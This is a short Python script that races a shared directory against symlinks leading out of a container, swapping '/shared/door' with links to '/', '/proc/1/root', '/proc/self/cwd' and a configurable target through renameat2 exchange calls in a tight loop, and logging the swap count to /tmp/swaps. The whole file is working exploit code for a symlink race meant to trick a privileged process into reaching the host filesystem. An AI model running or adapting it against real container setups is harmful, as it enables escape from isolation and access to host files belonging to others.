# Exchanges the directory /shared/door with links out of the container, as fast as it can.
# TARGET is where the first link leads. Counts into /tmp/swaps.
import ctypes
import os

libc = ctypes.CDLL(None)
AT_FDCWD, EXCHANGE = -100, 2
os.chdir("/shared")
os.makedirs("door/sub", exist_ok=True)
links = []
for number, target in enumerate((os.environ["TARGET"], "../../../../../../../..", "..", "/proc/1/root",
                                 "/proc/self/cwd", "/")):
    name = f"link{number}"
    os.symlink(target, name)
    links.append(name.encode())
print("ready", flush=True)
count = 0
while True:
    for name in links:
        # There and back again: the name is a directory every second time.
        for _ in range(2):
            libc.renameat2(AT_FDCWD, b"door", AT_FDCWD, name, EXCHANGE)
            count += 1
    if count % 1200 == 0:
        with open("/tmp/swaps.new", "w") as file:
            file.write(str(count))
        os.rename("/tmp/swaps.new", "/tmp/swaps")
